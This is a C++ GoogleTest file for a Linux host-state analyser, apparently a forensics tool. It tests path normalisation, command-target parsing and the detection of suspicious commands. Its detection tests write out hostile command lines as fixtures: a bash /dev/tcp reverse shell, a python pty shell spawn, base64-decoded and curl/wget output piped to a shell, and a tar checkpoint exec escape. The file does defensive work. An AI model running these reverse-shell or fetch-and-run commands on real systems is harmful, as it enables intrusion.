#include "analysers/host_state/linux/unix_commands.hpp"
#include "analysers/host_state/linux/unix_paths.hpp"
#include <gtest/gtest.h>

namespace konseki::host_state::on_linux {
namespace {

TEST(UnixPaths, OneSpellingForTheMergedUsr)
{
    EXPECT_EQ(unix_path("/bin/sh"), "/usr/bin/sh");
    EXPECT_EQ(unix_path("/lib/systemd/system/x.service"), "/usr/lib/systemd/system/x.service");
    EXPECT_EQ(unix_path("/etc//cron.d/./x/"), "/etc/cron.d/x");
    EXPECT_EQ(unix_path("/var/run/x"), "/run/x");
    EXPECT_EQ(unix_path("/library/x"), "/library/x");
    EXPECT_EQ(unix_path("curl"), "curl");
    EXPECT_EQ(other_spelling("/usr/sbin/x"), "/sbin/x");
    EXPECT_EQ(other_spelling("/opt/x"), "");
}

TEST(UnixPaths, KeysLeaveOutWhatDiffersBetweenHosts)
{
    EXPECT_EQ(general_unix_form("/home/ann/.bashrc"), "%home%/.bashrc");
    EXPECT_EQ(general_unix_form("/root/.bashrc"), "%home%/.bashrc");
    EXPECT_EQ(general_unix_form("/usr/lib/x86_64-linux-gnu/libnss_x.so.2"), "/usr/lib/%arch%/libnss_x.so.%n%");
    EXPECT_EQ(general_unix_form("/usr/bin/python3.11"), "/usr/bin/python%n%");
    EXPECT_EQ(general_unix_form("/var/lib/x/0a1b2c3d4e5f/y"), "/var/lib/x/%hex%/y");
    EXPECT_EQ(general_unix_form(""), "");
}

TEST(UnixPaths, PlacesAndHiddenNames)
{
    EXPECT_EQ(place_of("/usr/local/bin/x"), Place::local);
    EXPECT_EQ(place_of("/usr/bin/x"), Place::system);
    EXPECT_EQ(place_of("/dev/shm/x"), Place::memory);
    EXPECT_EQ(place_of("/data/x"), Place::other);
    EXPECT_EQ(place_of("x"), Place::unknown);
    EXPECT_EQ(odd_folder("/var/tmp/a/b"), "/var/tmp");
    EXPECT_EQ(odd_folder("/usr/bin/x"), "");
    EXPECT_EQ(hidden_part("/usr/local/lib/.cache2/x"), ".cache2");
    EXPECT_EQ(hidden_part("/home/ann/.config/systemd/user/x.service"), "");
    EXPECT_EQ(hidden_part("/home/ann/.bashrc"), "");
    EXPECT_EQ(hidden_part("/etc/../x"), "");
    EXPECT_EQ(hidden_part("~/.bashrc"), "");
    EXPECT_EQ(hidden_part("$HOME/.profile"), "");
    EXPECT_TRUE(has_deceiving_name("/tmp/.../x"));
    EXPECT_TRUE(has_deceiving_name("/tmp/. /x"));
    EXPECT_TRUE(has_deceiving_name("/usr/bin/ls "));
    EXPECT_FALSE(has_deceiving_name("/usr/bin/["));
}

TEST(UnixCommands, ComeDownToWhatReallyRuns)
{
    EXPECT_EQ(read_command("/usr/sbin/sshd -D").target, "/usr/sbin/sshd");
    EXPECT_EQ(read_command("@-/usr/bin/x y").target, "/usr/bin/x");
    EXPECT_EQ(read_command("/bin/sh -c 'exec /opt/agent/run --quiet'").target, "/opt/agent/run");
    EXPECT_EQ(read_command("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )").target,
        "/etc/cron.daily");
    EXPECT_EQ(read_command("python3 /srv/job.py --all").target, "/srv/job.py");
    EXPECT_EQ(
        read_command("MAILTO=x nice -n 10 /usr/local/bin/backup > /dev/null 2>&1").target, "/usr/local/bin/backup");
    EXPECT_EQ(read_command("/usr/bin/env bash -c \"/tmp/x &\"").target, "/tmp/x");
    EXPECT_EQ(read_command("curl -s http://x/y | sh").target, "curl");
    EXPECT_EQ(read_command("if [ -x /usr/bin/a ]; then /usr/bin/b; fi").target, "/usr/bin/b");
    EXPECT_EQ(read_command(". /etc/default/x; /usr/bin/a").target, "/etc/default/x");
    EXPECT_EQ(read_command("/usr/bin/at -M -f /usr/lib/netlinkd now").target, "/usr/lib/netlinkd");
    EXPECT_EQ(read_command("").target, "");
    EXPECT_EQ(read_command("sh -c").target, "sh");
    EXPECT_EQ(read_command("'/opt/unclosed x").target, "/opt/unclosed x");
    EXPECT_EQ(read_command("eval \"$(dircolors -b ~/.dircolors)\"").target, "");
}

TEST(UnixCommands, ShellsWithinShellsEnd)
{
    std::string line = "true";
    for (int depth = 0; depth < 60; ++depth)
        line = "sh -c \\\"" + line + "\\\"";
    EXPECT_EQ(read_command(line).programs.size(), 1U);
    std::string const many(200'000, ';');
    EXPECT_TRUE(read_command(many).programs.empty());
}

// covers: L47
TEST(UnixCommands, SignsOfHandsOnTheKeyboard)
{
    auto const first = [](std::string_view command) {
        auto const signs = signs_of_unix_command(command);
        return signs.empty() ? std::string_view() : signs.front().feature;
    };
    EXPECT_EQ(first("bash -c 'bash -i >& /dev/tcp/10.0.0.1/443 0>&1'"), "linux.reverse_shell");
    EXPECT_EQ(first("python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"), "linux.reverse_shell");
    EXPECT_EQ(first("echo aaaa | base64 -d | sh"), "command.encoded");
    EXPECT_EQ(first("curl -fsSL http://x/y"), "linux.fetches");
    EXPECT_EQ(first("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh"), "linux.one_liner");
    EXPECT_EQ(first("nohup /opt/x >/dev/null 2>&1 &"), "linux.background");
    EXPECT_EQ(first("/usr/sbin/logrotate /etc/logrotate.conf"), "");
    EXPECT_EQ(first("/usr/bin/dbus-daemon --system"), "");
    EXPECT_EQ(first("/usr/lib/mycurl --x"), "");
    EXPECT_EQ(signs_of_unix_command("wget -qO- http://x | bash").size(), 2U);
}

}
}
